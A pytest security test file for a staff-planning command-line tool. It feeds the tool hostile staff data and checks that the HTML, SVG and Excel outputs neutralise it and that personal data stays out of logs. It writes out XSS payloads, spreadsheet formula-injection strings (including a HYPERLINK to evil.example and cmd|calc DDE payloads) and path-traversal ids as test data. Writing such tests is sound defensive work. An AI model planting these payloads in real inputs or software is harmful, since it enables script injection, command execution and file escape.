"""Hostile data and personal data, through the real command line.

One scenario, the tiny fixture with hostile text in every kind of field: names
holding ``<script>``, ``=HYPERLINK(...)``, event-handler attributes and control
characters, ids holding ``../`` and markup, distinctive salaries. One separate
process runs ``planner validate``, ``solve``, ``check`` and ``export --anonymize``
on it (the CLI's entry point, one command after the other) with every logger at
DEBUG and the CP-SAT search log on, capturing stdout, stderr and the log of each.

Promises checked:

- hostile data: report.html holds no script, no event handler, no element the
  data brought in; plan.xlsx holds no formula and no link; structure.svg parses
  as XML with no script; nothing is written outside the plan folder;
- personal data: no staff name and no salary reaches stdout, stderr or the log
  of any command (they appear only in the plan folder's own files, where they
  are meant to be); ``export --format html --anonymize`` leaves no name in the
  report.
"""

from __future__ import annotations

import html
import json
import re
import shutil
import subprocess
import sys
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest

from planner.io import read_scenario, write_scenario
from planner.io.plan_io import atomic_folder, is_plan_folder
from tests.fixtures.scenario_files import TINY, read_table, write_table

NAMES = {
    "S1": '<script>alert("xss")</script>',
    "S2": '=HYPERLINK("http://evil.example/?leak","Bấm vào đây")',
    "S3": "Lê Văn\x1b[31m Cường\x07\x0b",
    "S4": '"><img src=x onerror=alert(1)>Phạm Thị Dung',
    "S5": "Hoàng]]><!-- Văn Em",
    "S6": "Vũ Thị Phương",
    "S7": "@SUM(1+1)*cmd|' /C calc'!A0 Đặng Văn Giang",
    "S8": "Bùi Thị Hoa",
}
SALARIES = {
    "S1": "15012347", "S2": "12034561", "S3": "8012373", "S4": "14056783",
    "S5": "7523459", "S6": "14567891", "S7": "7012397", "S8": "6834561",
}  # fmt: skip
IDS = {"S6": "../../../escape-S6", "MT-TC": "../MT/TC", "D1": "D1<i>&amp;"}
TEXTS = {
    ("units", "MT-VP", "name"): "=1+1",
    ("organizations", "CD", "name"): '-2+3+cmd|"/C calc"!A0',
    ("departments", "D2", "name"): "<svg onload=alert(1)>",
    ("functions", "F1", "name"): "<iframe src=javascript:alert(1)>",
}

DRIVER = r"""
import io, json, logging, os, shutil, sys
import planner.cli
results = []
for step in json.loads(sys.argv[1]):
    if step[0] == "copy":
        shutil.copytree(step[1], step[2])
        continue
    log = io.StringIO()
    logging.root.handlers.clear()
    logging.basicConfig(level=logging.DEBUG, stream=log, force=True)
    sys.argv = ["planner", *step[1:]]
    out, err = io.StringIO(), io.StringIO()
    sys.stdout, sys.stderr = out, err
    try:
        planner.cli.main()
        code = 0
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
    finally:
        sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
    results.append({"argv": step[1:], "code": code, "stdout": out.getvalue(),
                    "stderr": err.getvalue(), "log": log.getvalue()})
json.dump(results, sys.stdout)
"""


@dataclass(frozen=True)
class Command:
    argv: list[str]
    code: int
    stdout: str
    stderr: str
    log: str

    @property
    def text(self) -> str:
        return self.stdout + self.stderr + self.log


@dataclass(frozen=True)
class Session:
    root: Path
    scenario: Path
    broken: Path
    plan: Path
    anonymized: Path
    commands: dict[str, Command]
    before: list[str]  # every path under root before the commands, the scenarios excepted


def _hostile(folder: Path) -> None:
    """The tiny scenario with the hostile names, ids and texts above."""
    records = read_table(folder, "staff")
    header = records[0]
    for r in records[1:]:
        sid = r[header.index("staff_id")]
        r[header.index("name")] = NAMES[sid]
        r[header.index("salary")] = SALARIES[sid]
    write_table(folder, "staff", records)
    for (stem, key, column), value in TEXTS.items():
        records = read_table(folder, stem)
        for r in records[1:]:
            if r[0] == key:
                r[records[0].index(column)] = value
        write_table(folder, stem, records)
    for path in folder.glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        for old, new in IDS.items():
            text = re.sub(rf"(?<![\w-]){re.escape(old)}(?![\w-])", new, text)
        path.write_text(text, encoding="utf-8")


def _listing(root: Path, skip: tuple[Path, ...]) -> list[str]:
    return sorted(
        p.relative_to(root).as_posix()
        for p in root.rglob("*")
        if not any(p == s or s in p.parents for s in skip)
    )


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Session:
    root = tmp_path_factory.mktemp("hostile") / "a" / "b" / "c"  # room for ../../../
    scenario = Path(shutil.copytree(TINY, root / "scenario"))
    _hostile(scenario)
    broken = Path(shutil.copytree(scenario, root / "broken"))
    records = read_table(broken, "staff")
    salary, name = records[0].index("salary"), records[0].index("name")
    records[2][salary] = "12.034.561 đ"  # S2: a salary with separators and a currency
    records[8][name] = NAMES["S8"] * 1000  # S8: an absurdly long name
    write_table(broken, "staff", records)
    plan, anonymized = root / "out" / "plan", root / "out" / "anonymized"
    steps = {
        "validate": ["cli", "validate", str(scenario)],
        "validate-broken": ["cli", "validate", str(broken)],
        "solve": [
            "cli",
            "solve",
            str(scenario),
            "--out",
            str(plan),
            "--time-limit",
            "10",
            "--workers",
            "1",
            "--set",
            "solver.log=true",
        ],  # fmt: skip
        "check": ["cli", "check", str(scenario), str(plan)],
        "copy": ["copy", str(plan), str(anonymized)],
        "export": ["cli", "export", str(anonymized), "--format", "html", "--anonymize"],
    }
    before = _listing(root.parents[2], skip=(scenario, broken))
    proc = subprocess.run(
        [sys.executable, "-c", DRIVER, json.dumps(list(steps.values()))],
        cwd=root, capture_output=True, text=True, timeout=600, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = iter(json.loads(proc.stdout))
    commands = {name: Command(**next(results)) for name, step in steps.items() if step[0] == "cli"}
    return Session(root, scenario, broken, plan, anonymized, commands, before)


def test_every_command_succeeds_on_hostile_data(session: Session) -> None:
    codes = {name: c.code for name, c in session.commands.items()}
    assert codes == {"validate": 0, "validate-broken": 2, "solve": 0, "check": 0, "export": 0}, {
        n: c.stderr[-2000:] for n, c in session.commands.items()
    }
    for c in session.commands.values():
        assert "Traceback" not in c.text


# -- hostile data --------------------------------------------------------------------------


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _elements(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Elements()
    parser.feed(text)
    parser.close()
    return parser.tags


@pytest.mark.parametrize("report", ["plan", "anonymized"])
def test_report_runs_no_code_from_the_data(session: Session, report: str) -> None:
    text = (getattr(session, report) / "report.html").read_text(encoding="utf-8")
    tags = _elements(text)
    names = {tag for tag, _ in tags}
    assert not names & {"script", "img", "iframe", "object", "embed", "foreignobject", "base"}
    for tag, attrs in tags:
        for attr, value in attrs:
            assert not attr.startswith("on"), (tag, attr, value)
            assert "javascript:" not in (value or "").lower(), (tag, attr, value)
            assert "evil.example" not in (value or ""), (tag, attr, value)
    assert "Content-Security-Policy" in text
    if report == "plan":  # the hostile names are shown, as text
        assert html.escape(TEXTS["departments", "D2", "name"], quote=False) in text


def test_structure_svg_parses_and_holds_no_script(session: Session) -> None:
    tree = ET.parse(session.plan / "structure.svg")
    for element in tree.iter():
        local = element.tag.rsplit("}", 1)[-1].lower()
        assert local not in ("script", "foreignobject", "iframe"), local
        assert not any(a.lower().startswith("on") for a in element.attrib), element.attrib
    assert any(TEXTS["departments", "D2", "name"] in (e.text or "") for e in tree.iter())


def test_workbook_holds_no_formula_and_no_link(session: Session) -> None:
    with zipfile.ZipFile(session.plan / "plan.xlsx") as book:
        parts = {n: book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml")}
        rels = [n for n in book.namelist() if n.startswith("xl/worksheets/_rels/")]
    sheets = {n: t for n, t in parts.items() if n.startswith("xl/worksheets/sheet")}
    assert sheets
    for name, xml in sheets.items():
        assert not re.search(r"<f[ >]", xml), f"a formula in {name}"
        assert "<hyperlink" not in xml, f"a link in {name}"
    assert not rels  # links and external references would live there
    assert "=HYPERLINK(" in parts.get("xl/sharedStrings.xml", "") + "".join(sheets.values())


def test_plan_json_parses(session: Session) -> None:
    json.loads((session.plan / "plan.json").read_text(encoding="utf-8"))


def test_nothing_is_written_outside_the_plan_folder(session: Session) -> None:
    top = session.root.parents[2]
    after = _listing(top, skip=(session.scenario, session.broken, session.plan, session.anonymized))
    assert after == sorted([*session.before, "a/b/c/out"])
    assert not [p for p in top.rglob("*escape*") if session.plan not in p.parents]
    for level in range(1, 6):
        assert not (session.plan / ("../" * level) / "escape-S6").exists()


def test_ids_reach_the_plan_verbatim(session: Session) -> None:
    staff = (session.plan / "staff.csv").read_text(encoding="utf-8")
    assert IDS["S6"] in staff and IDS["MT-TC"] in staff


# -- personal data ----------------------------------------------------------------------------


def _variants(text: str) -> list[str]:
    """A text as it may appear: as is, decomposed, and without the control characters."""
    plain = re.sub(r"[\x00-\x1f\x7f]", "", text)
    return sorted({text, plain, unicodedata.normalize("NFD", text), html.escape(plain)})


def _salary_forms(value: str) -> list[str]:
    n = int(value)
    return [value, f"{n:,}", f"{n:,}".replace(",", "."), f"{n:,}".replace(",", " ")]


def _decoded(text: str) -> str:
    """``text`` with HTML character references and ``\\uXXXX`` escapes resolved."""
    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), text)
    return html.unescape(text)


def test_logging_is_really_on(session: Session) -> None:
    solve_log = session.commands["solve"].log
    assert "DEBUG" in solve_log and "CP-SAT" in solve_log  # the search log went through logging


@pytest.mark.parametrize("command", ["validate", "validate-broken", "solve", "check", "export"])
def test_no_name_and_no_salary_in_output_or_logs(session: Session, command: str) -> None:
    text = session.commands[command].text
    for sid, name in NAMES.items():
        for form in _variants(name):
            assert form not in text, (sid, form)
    for sid, salary in SALARIES.items():
        for form in _salary_forms(salary):
            assert form not in text, (sid, form)


def test_anonymized_report_names_no_one(session: Session) -> None:
    raw = (session.anonymized / "report.html").read_text(encoding="utf-8")
    for text in (raw, _decoded(raw)):
        for sid, name in NAMES.items():
            for form in _variants(name):
                assert form not in text, (sid, form)
    assert raw.count("Cán bộ ") >= 1
    # the original report did show them: the test can see a name when there is one
    original = _decoded((session.plan / "report.html").read_text(encoding="utf-8"))
    assert NAMES["S8"] in original


def test_plan_folder_is_readable_by_its_owner_only(session: Session) -> None:
    assert session.plan.stat().st_mode & 0o077 == 0


# -- what a write never replaces --------------------------------------------------------------


def _earlier_plan(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "summary.json").write_text("{}", encoding="utf-8")
    (folder / "staff.csv").write_text("staff_id\n", encoding="utf-8")
    return folder


def test_atomic_folder_replaces_an_earlier_plan_in_one_step(tmp_path: Path) -> None:
    target = _earlier_plan(tmp_path / "plan")
    with atomic_folder(target, replace=is_plan_folder) as tmp:
        (tmp / "summary.json").write_text('{"new": 1}', encoding="utf-8")
    assert (target / "summary.json").read_text(encoding="utf-8") == '{"new": 1}'
    assert not (target / "staff.csv").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["plan"]  # nothing left aside


@pytest.mark.parametrize("what", ["scenario", "working folder", "file", "documents"])
def test_atomic_folder_never_replaces_what_is_not_a_plan(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    target = tmp_path / "target"
    if what == "scenario":
        shutil.copytree(TINY, target)
    elif what == "working folder":
        _earlier_plan(target)
        (target / "sub").mkdir()
        monkeypatch.chdir(target / "sub")
    elif what == "file":
        target.write_text("x", encoding="utf-8")
    else:
        target.mkdir()
        (target / "minutes.docx").write_bytes(b"precious")
    before = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
    with pytest.raises(FileExistsError), atomic_folder(target, replace=is_plan_folder) as tmp:
        (tmp / "summary.json").write_text("{}", encoding="utf-8")
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == before


def test_atomic_folder_by_default_still_refuses_a_scenario_or_the_working_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scenario = Path(shutil.copytree(TINY, tmp_path / "scenario"))
    with pytest.raises(FileExistsError, match="scenario folder"), atomic_folder(scenario):
        pass
    plan = _earlier_plan(tmp_path / "plan")
    monkeypatch.chdir(plan)
    with pytest.raises(FileExistsError, match="working folder"), atomic_folder("."):
        pass
    assert sorted(p.name for p in scenario.iterdir()) == sorted(p.name for p in TINY.iterdir())
    assert sorted(p.name for p in plan.iterdir()) == ["staff.csv", "summary.json"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan", "scenario"]


def test_write_scenario_replaces_only_an_earlier_scenario(tmp_path: Path) -> None:
    scenario = read_scenario(TINY)
    earlier = Path(shutil.copytree(TINY, tmp_path / "earlier"))
    write_scenario(scenario, earlier)  # an earlier scenario: replaced
    assert (earlier / "scenario.toml").is_file()
    documents = tmp_path / "documents"
    documents.mkdir()
    (documents / "minutes.docx").write_bytes(b"precious")
    plan = _earlier_plan(tmp_path / "plan")
    for target in (documents, plan):
        with pytest.raises(FileExistsError, match="not a scenario folder"):
            write_scenario(scenario, target)
    assert (documents / "minutes.docx").read_bytes() == b"precious"
    assert sorted(p.name for p in plan.iterdir()) == ["staff.csv", "summary.json"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["documents", "earlier", "plan"]
